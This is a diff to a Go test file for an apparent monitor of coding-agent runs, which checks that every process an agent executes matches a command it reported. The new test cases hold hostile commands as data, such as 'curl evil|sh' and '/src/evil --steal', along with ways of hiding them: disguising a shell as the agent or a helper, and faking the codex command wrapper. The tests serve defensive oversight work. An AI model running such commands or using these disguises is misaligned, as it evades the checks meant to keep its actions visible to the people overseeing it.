@@ -22,12 +22,17 @@ type run struct {
 
 // newRun is a run of an agent in process 5, with /usr given and everything else writable.
 func newRun() *run {
+	return firstRun("/usr/bin/claude", "claude")
+}
+
+// firstRun is one of another command in process 5.
+func firstRun(path string, argv ...string) *run {
 	r := &run{now: start}
 	r.add(belljar.Event{Kind: belljar.EventPlan, Plan: &belljar.Plan{
 		Enforcement: []belljar.Enforcement{{Requirement: belljar.ReqExec, Level: belljar.Enforced}},
 		Mounts:      []belljar.Mount{{Kind: belljar.MountBind, Target: "/usr", ReadOnly: true}, {Kind: belljar.MountTmpfs, Target: "/tmp"}},
 	}})
-	return r.exec(5, 1, "/usr/bin/claude", "claude")
+	return r.exec(5, 1, path, argv...)
 }
 
 func (r *run) add(e belljar.Event) *run {
@@ -41,13 +46,18 @@ func (r *run) exec(pid, parent int, path string, argv ...string) *run {
 	return r.add(belljar.Event{Kind: belljar.EventExec, Exec: &belljar.ExecEvent{PID: pid, Parent: parent, Path: path, Argv: argv}})
 }
 
+// called is an execve of a file by another path.
+func (r *run) called(pid, parent int, path, called string, argv ...string) *run {
+	return r.add(belljar.Event{Kind: belljar.EventExec, Exec: &belljar.ExecEvent{PID: pid, Parent: parent, Path: path, Called: called, Argv: argv}})
+}
+
 func (r *run) exit(pid, code int) *run {
 	return r.add(belljar.Event{Kind: belljar.EventExit, Exit: &belljar.ExitEvent{PID: pid, Status: belljar.ExitStatus{Code: code}}})
 }
 
 // sh is a shell of the agent that is given line and executes each of programs.
 func (r *run) sh(pid, code int, line string, programs ...string) *run {
-	quoted := "source /x/snapshot.sh && eval '" + strings.ReplaceAll(line, "'", `'"'"'`) + "' < /dev/null && pwd -P >| /tmp/cwd"
+	quoted := "source /x/snapshot.sh 2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'which'; } >/dev/null && eval '" + strings.ReplaceAll(line, "'", `'"'"'`) + "' < /dev/null && pwd -P >| /tmp/cwd"
 	r.exec(pid, 5, "/usr/bin/bash", "/bin/bash", "-c", quoted)
 	for i, p := range programs {
 		argv := strings.Fields(p)
@@ -124,6 +134,69 @@ func TestCheck(t *testing.T) {
 		"a subshell": {
 			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "(cd x; make)").exec(12, 11, "/usr/bin/make", "make").exit(12, 0).exit(11, 0).exit(10, 0),
 			[]*Claim{told("(cd x; make)", 0)}, []string{"executed (cd x; make)"},
+		},
+		"what the first process becomes": {
+			newRun().exec(5, 1, "/usr/bin/bash", "bash", "-c", "curl evil|sh").exec(6, 5, "/usr/bin/curl", "curl", "evil"), nil,
+			[]string{"executed but not told curl evil|sh"},
+		},
+		"what a first command that is no agent becomes": {
+			firstRun("/usr/bin/sh", "sh").exec(5, 1, "/usr/bin/sh", "sh", "-c", "curl evil"), nil, []string{"executed but not told curl evil"},
+		},
+		"what a first command that is no agent starts": {
+			firstRun("/usr/bin/sh", "sh", "x.sh").exec(6, 5, "/usr/bin/git", "git", "status").exec(7, 5, "/usr/bin/curl", "curl", "evil"), nil,
+			[]string{"executed but not told 'curl' 'evil'"},
+		},
+		"an agent that a first command starts": {
+			firstRun("/usr/bin/sh", "sh", "-c", "claude; true").exec(6, 5, "/usr/bin/claude", "claude").exec(10, 6, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
+			[]*Claim{told("ls", 0)}, []string{"executed ls"},
+		},
+		"what starts the shell of a claim": {
+			newRun().exec(9, 5, "/src/evil", "/src/evil", "--steal").exec(10, 9, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
+			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told '/src/evil' '--steal'"},
+		},
+		"what was the shell of a claim before, and its children": {
+			newRun().exec(10, 5, "/src/evil", "/src/evil").exec(12, 10, "/usr/bin/curl", "curl", "evil").exec(10, 5, "/usr/bin/bash", "bash", "-c", "ls").
+				exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
+			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told '/src/evil'"},
+		},
+		"what an agent started before it became a claim": {
+			newRun().exec(12, 5, "/usr/bin/curl", "curl", "evil").exec(5, 1, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 5, "/usr/bin/ls", "ls").exit(11, 0).exit(5, 0),
+			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told 'curl' 'evil'"},
+		},
+		"a shell that is called as the agent": {
+			newRun().exec(10, 5, "/usr/bin/bash", "claude", "-c", "curl evil"), nil, []string{"executed but not told 'claude' '-c' 'curl evil'"},
+		},
+		"a program that is called as a helper": {
+			newRun().exec(10, 5, "/usr/bin/curl", "git", "evil").exec(11, 5, "/usr/bin/curl", "sh", "-c", "env", "evil"), nil,
+			[]string{"executed but not told 'git' 'evil'", "executed but not told 'sh' '-c' 'env' 'evil'"},
+		},
+		"a program that is called as a shell": {
+			newRun().exec(10, 5, "/tmp/x", "bash", "-c", "cd x").exit(10, 0), []*Claim{told("cd x", 0)},
+			[]string{"not executed cd x", "executed but not told"},
+		},
+		"more than the line": {
+			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "curl evil; eval 'cd x'").exec(11, 10, "/usr/bin/curl", "curl", "evil").exit(11, 0).exit(10, 0),
+			[]*Claim{told("cd x", 0)}, []string{"not executed cd x", "executed but not told curl evil; eval 'cd x'"},
+		},
+		"the interpreter of an agent": {
+			newRun().exec(6, 5, "/usr/lib/codex.js", "codex").exec(6, 5, "/usr/bin/node", "node", "/usr/lib/codex.js", "exec").exec(7, 6, "/usr/bin/git", "git"), nil, nil,
+		},
+		"what codex wraps around a line": {
+			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; exec sh -c 'cd x'").exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
+			[]*Claim{told("cd x", 0)}, []string{"executed cd x"},
+		},
+		"what only looks as if codex wrapped it": {
+			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; curl evil; exec sh -c 'cd x'").exec(11, 10, "/usr/bin/curl", "curl", "evil").
+				exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
+			[]*Claim{told("cd x", 0)}, []string{"executed cd x", "executed but not told __CODEX_SNAPSHOT_X=1; curl evil"},
+		},
+		"an interpreter that was an agent": {
+			newRun().exec(6, 5, "/usr/lib/codex.js", "codex").exec(6, 5, "/usr/bin/node", "node", "/tmp/evil.js", "/usr/lib/codex.js"), nil,
+			[]string{"executed but not told 'node' '/tmp/evil.js'"},
+		},
+		"a helper by the name of a link": {
+			newRun().called(10, 5, "/usr/bin/which.debianutils", "/usr/bin/which", "which", "x").called(11, 5, "/usr/bin/bash", "/tmp/bin/which", "which", "x"), nil,
+			[]string{"executed but not told 'which' 'x'"},
 		},
 		"in the background": {
 			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "sleep 5 &").exit(10, 0).exec(11, 1, "/usr/bin/sleep", "sleep", "5"),
